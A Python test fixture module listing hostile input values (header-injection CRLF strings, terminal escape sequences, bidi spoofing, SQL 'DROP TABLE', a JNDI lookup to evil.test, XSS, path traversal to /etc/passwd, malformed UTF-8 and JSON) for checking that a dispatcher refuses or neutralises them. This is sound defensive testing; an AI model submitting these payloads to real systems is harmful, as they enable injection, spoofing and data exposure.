"""What attackers write into values: one list for every place where a value is read or shown."""

import unicodedata
from collections.abc import Callable
from typing import Any

from dispatcher.errors import InvalidInput

# Texts that are valid UTF-8, so JSON, PostgreSQL and a message accept them. By name, for the ids of tests.
TEXTS = {
    "crlf": "a\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
    "lf": "a\nX-Evil: 1",
    "cr": "a\rX-Evil: 1",
    "other line ends": "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "clear screen": "\x1b[2J\x1b[H\x1b[31m",
    "8 bit controls": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "bells and backspaces": "a\x07\x08\x08\x7f",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "zero width": "a\u200bb\ufeffc\u2060d\u00ade",
    "tags": "a\U000e0041\U000e007f",
    "combining flood": "e" + "\u0301\u0489" * 120,
    "right to left": "שלום עולם, مرحبا",
    "encoded word": "=?utf-8?q?a=0d=0aBcc:_evil@evil.test?=",
    "template": "{{ 7*7 }}{% raw %}${jndi:ldap://evil.test/a}#{7*7}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
    "sql": "'; DROP TABLE dispatcher.events; --\\",
    "formats": "%s %n %(x)s %% {0} {x} :id $1 \\x41 \\u202e",
    "markup": "[bold red]x[/] [link=http://evil.test]y[/link] :smile:",
    "array": '{"a",NULL,\\"}',
    "query": "a&b=c?d#e%0d%0aX-Evil:1;f+g",
    "path": "../../etc/passwd\\..\\x",
    "no characters": "\ufffe\uffff\U0010ffff",
    "byte order mark": "\ufeffa",
}
# Values that no text in UTF-8, and no text column, can hold.
UNSTORABLE = {"nul": "a\0b", "high surrogate": "a\ud800b", "low surrogate": "\udfff", "escaped bytes": "a\udcff"}
LONG = {"long": "x" * 100_000, "long and combining": "\u0301" * 100_000, "deep brackets": "(" * 100_000}
ALL = {**TEXTS, **UNSTORABLE, **LONG}

# Bytes that are not UTF-8 at all.
NO_UTF8 = {
    "latin-1": b"caf\xe9",
    "cut short": b"\xe2\x82",
    "overlong": b"\xc0\x80\xc1\xbf\xe0\x80\xaf",
    "surrogate": b"\xed\xa0\x80",
    "beyond unicode": b"\xf4\x90\x80\x80",
    "utf-16": "a".encode("utf-16"),
}

# JSON that parsers fail on, or silently change. All of it is valid.
JSON = {
    "beyond 2^53": b"9007199254740993",
    "beyond 2^64": b"-18446744073709551617",
    "a hundred thousand digits": b"9" * 100_000,
    "beyond a double": b"1e400",
    "almost nothing": b"1e-400",
    "many decimals": b"0.1000000000000000055511151231257827021181583404541015625",
    "trailing zeros": b"1.50",
    "minus zero": b"[-0,-0.0,0e0,1E+2]",
    "duplicate names": b'{"id":1,"id":2,"\\u0069d":3}',
    "an empty name": b'{"":{"":""}}',
    "proto": b'{"__proto__":{"x":1},"constructor":null}',
    "lone surrogates": b'{"a":"\\ud800","\\udfff":"\\udc00\\ud800"}',
    "escaped controls": b'"\\u0000\\u001b[2J\\u0007\\r\\n\\u202e\\u009b"',
    "raw line separators": '"\u2028\u2029\u202e\x9b\x85"'.encode(),
    "white space": b' { "a" :\r\n\t[ 1 , 2 ] } ',
    "deep": b"[" * 300 + b"]" * 300,
    "wide": b"[" + b"0," * 50_000 + b"0]",
}
# What looks like JSON and is not.
NO_JSON = {
    "nothing": b"",
    "nan": b'{"a":NaN}',
    "infinity": b"[-Infinity]",
    "byte order mark": b"\xef\xbb\xbf{}",
    "raw control": b'"\x1b"',
    "raw nul": b'"\0"',
    "trailing": b"{} {}",
    "single quotes": b"{'a':1}",
    "comment": b"/**/{}",
    "too deep": b"[" * 100_000 + b"]" * 100_000,
    "too deep and open": b'{"a":' * 50_000,
    "bad escape": b'"\\x41"',
    **{f"no utf-8: {name}": b'"' + raw + b'"' for name, raw in NO_UTF8.items()},
}

_STEERING = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def refusal(action: Callable[..., object], *values: Any) -> InvalidInput | None:
    """The error with which an action refuses the values; None if it accepts them. Any other error is raised."""
    try:
        action(*values)
    except InvalidInput as refused:
        return refused
    return None


def steering(text: str, *, allowed: str = "\n") -> set[str]:
    """The characters in a text that a terminal or an editor would obey, or that reorder or hide what people read."""
    return {one for one in text if one not in allowed and unicodedata.category(one) in _STEERING}
